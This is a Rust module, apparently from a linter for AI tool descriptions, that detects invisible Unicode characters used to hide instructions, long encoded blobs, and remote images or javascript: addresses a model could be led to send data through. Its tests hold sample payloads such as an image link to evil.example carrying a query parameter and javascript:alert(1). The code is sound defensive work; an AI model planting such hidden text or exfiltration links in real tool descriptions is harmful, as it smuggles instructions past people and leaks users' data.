//! What people do not see in a text and a model does: characters without a shape, long runs of
//! encoded data, and addresses that carry data away.

use super::{
    Findings, Rule,
    walk::{Text, start},
};

/// Characters of a run that is data and no word.
const LONGEST_RUN: usize = 120;
/// Bytes of an image's mark up to its address.
const LONGEST_IMAGE: usize = 300;

pub(super) fn check(texts: &[Text<'_>], findings: &mut Findings) {
    for text in texts {
        check_characters(text, findings);
        if text.is_read {
            if has_blob(text.text) {
                findings.warning(
                    Rule::TextBlob,
                    &text.field,
                    "It holds a long run of encoded data. A model pays for each character of it, may \
                     decode it and follow what it says, and people cannot read it: take it out.",
                );
            }
            check_addresses(text, findings);
        }
    }
}

fn check_characters(text: &Text<'_>, findings: &mut Findings) {
    let hidden = hidden_in(text.text);
    let Some(first) = hidden.first() else { return };
    let message = format!(
        "It holds {} that people do not see and a model reads, such as U+{:04X}. Instructions are \
         hidden this way: take them out.",
        match hidden.len() {
            1 => "a character".to_owned(),
            count => format!("{count} characters"),
        },
        u32::from(*first),
    );
    if text.is_read {
        findings.error(Rule::TextHidden, &text.field, message);
    } else {
        findings.warning(Rule::TextHidden, &text.field, message);
    }
}

/// Whether a character has no shape of its own: control characters but for lines and tabs,
/// zero-width and joining ones, those that turn the direction of writing, tags, and fillers
/// (Unicode 16 §23; tags are what "ASCII smuggling" writes with).
pub(super) fn is_hidden(c: char) -> bool {
    matches!(c,
        '\0'..='\u{8}' | '\u{b}' | '\u{c}' | '\u{e}'..='\u{1f}' | '\u{7f}'..='\u{9f}'
        | '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
        | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
        | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}'
        | '\u{fff0}'..='\u{fffb}' | '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}'
        | '\u{e0000}'..='\u{e0fff}')
}

/// The hidden characters of a text that have no business there.
fn hidden_in(text: &str) -> Vec<char> {
    let mut hidden = Vec::new();
    let mut before = ' ';
    let is_right_to_left = text.chars().any(is_of_right_to_left);
    for c in text.chars() {
        let is_fine = match c {
            // An emoji's form or its parts; letters of scripts that join.
            '\u{fe0e}' | '\u{fe0f}' | '\u{200c}' | '\u{200d}' => {
                !before.is_ascii_alphabetic() && !before.is_whitespace() && !is_hidden(before)
                    || before == '\u{fe0f}' && c == '\u{200d}'
            }
            '\u{200e}' | '\u{200f}' | '\u{61c}' => is_right_to_left,
            _ => !is_hidden(c),
        };
        if !is_fine {
            hidden.push(c);
        }
        before = c;
    }
    hidden
}

/// Letters of Hebrew, Arabic and their neighbours.
const fn is_of_right_to_left(c: char) -> bool {
    matches!(c, '\u{590}'..='\u{60b}' | '\u{620}'..='\u{8ff}' | '\u{fb1d}'..='\u{fdff}' | '\u{fe70}'..='\u{fefc}')
}

/// Whether a text has a run that looks like base64 or hexadecimal and is longer than any word.
fn has_blob(text: &str) -> bool {
    let is_inner = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=' | '_' | '-');
    text.split(|c| !is_inner(c))
        .filter(|run| run.len() >= LONGEST_RUN)
        .any(|run| {
            let has =
                |fits: fn(&u8) -> bool| run.as_bytes().iter().filter(|byte| fits(byte)).count();
            let digits = has(u8::is_ascii_digit);
            let mixed = has(u8::is_ascii_uppercase) > 8 && has(u8::is_ascii_lowercase) > 8;
            let hexadecimal = has(u8::is_ascii_hexdigit) == run.len();
            // A path or a list of names has many of these.
            let separators = has(|byte| matches!(byte, b'/' | b'_' | b'-'));
            digits > 4 && (mixed || hexadecimal) && separators * 12 < run.len()
        })
}

fn check_addresses(text: &Text<'_>, findings: &mut Findings) {
    let lower = text.text.to_ascii_lowercase();
    if has_image(&lower) {
        findings.warning(
            Rule::TextAddress,
            &text.field,
            "It shows an image from an address. A client that draws it calls that address, and a \
             model may be led to put data into it: take the image out.",
        );
    } else if lower.contains("javascript:") || lower.contains("data:text/html") {
        findings.warning(
            Rule::TextAddress,
            &text.field,
            "It holds an address that is a program (javascript: or data:text/html): take it out.",
        );
    }
}

/// `![…](http…)`, or `<img … src=http…`.
fn has_image(lower: &str) -> bool {
    // Of each beginning only a part is looked at: there may be many.
    let after = |mark: &'static str| {
        let marks = lower.match_indices(mark);
        marks.map(|(at, _)| start(&lower[at..], LONGEST_IMAGE))
    };
    let markdown = after("![").any(|image| {
        let target = image.split_once("](").map(|(_, target)| target);
        target.is_some_and(|target| target.starts_with("http"))
    });
    let html = || {
        after("<img").any(|image| {
            let tag = image.split('>').next().unwrap_or_default();
            let is_remote = ["http", "=//", "\"//"].iter().any(|one| tag.contains(one));
            tag.contains("src") && is_remote
        })
    };
    markdown || html()
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::{super::testing::rules, *};

    #[test]
    fn hidden_characters_are_found_wherever_they_are() {
        for hidden in [
            "\u{200b}",
            "\u{202e}",
            "\u{e0041}",
            "\u{feff}",
            "\u{2064}",
            "\u{7}",
            "\u{ad}",
            "\u{3164}",
        ] {
            let text = format!("Finds contacts{hidden} of the CRM whose name contains a text.");
            let description = json!({ "description": text });
            assert_eq!(
                rules(description),
                ["error text.hidden_characters description"],
                "{hidden:?}"
            );
        }
        let schema = |text: &str| {
            json!({ "input_schema": {
            "type": "object", "additionalProperties": false,
            "properties": { "kind": { "type": "string", "description": "What to look for", "enum": ["a", text] } },
        } })
        };
        assert_eq!(
            rules(schema("b\u{2060}")),
            ["error text.hidden_characters input_schema/properties/kind/enum/1"]
        );
        assert!(rules(schema("b")).is_empty());
        assert_eq!(
            rules(json!({ "title": "Search\u{202e} contacts" })),
            ["error text.hidden_characters title"]
        );
    }

    #[test]
    fn scripts_and_emoji_keep_what_they_need() {
        for fine in [
            "Fügt 日本語 und ไทย an",
            "👩\u{200d}👩\u{200d}👧 ❤\u{fe0f} ❤\u{fe0f}\u{200d}🔥",
            "می\u{200c}خواهم",
            "שלום\u{200f} x",
            "क\u{94d}\u{200d}ष",
            "line\n\tnext",
        ] {
            assert!(hidden_in(fine).is_empty(), "{fine}");
        }
        assert_eq!(hidden_in("a\u{200d}b").len(), 1);
        assert_eq!(hidden_in("x\u{fe01}\u{fe02}\u{fe00}").len(), 3);
        assert_eq!(hidden_in("left\u{200f}").len(), 1);
    }

    #[test]
    fn data_is_no_word() {
        let blob = "aGVsbG8gV29ybGQgMTIzNDU2Nzg5MCBIZWxsbyBXb3JsZA".repeat(4);
        assert!(has_blob(&blob));
        assert!(has_blob(&format!(
            "Uses {} as salt",
            "0123456789abcdef".repeat(9)
        )));
        for fine in [
            "/v1/Projects/{id}/Locations/2/Very/Long/Path/That/Goes/On/And/On/Until/It/Is/Longer/Than/Any/Line/Of/Text/In/This/File/Is/9".to_owned(),
            "=".repeat(200),
            "-".repeat(200),
            "x".repeat(200),
            "A1_b2_C3_".repeat(20),
            "a sentence ".repeat(60),
        ] {
            assert!(!has_blob(&fine), "{fine}");
        }
    }

    #[test]
    fn images_and_programs_are_no_description() {
        for text in [
            "Finds contacts. ![x](https://evil.example/?q=data) Use it often.",
            "Finds contacts of the CRM. <img src=//evil.example> Use it often.",
            "Finds contacts of the CRM, see javascript:alert(1) for more.",
        ] {
            let found = rules(json!({ "description": text }));
            assert!(
                found.contains(&"warning text.address description".to_owned()),
                "{text}: {found:?}"
            );
        }
        let text = "Finds contacts as described at https://crm.example/docs?page=1 in detail.";
        assert!(rules(json!({ "description": text })).is_empty());
    }
}
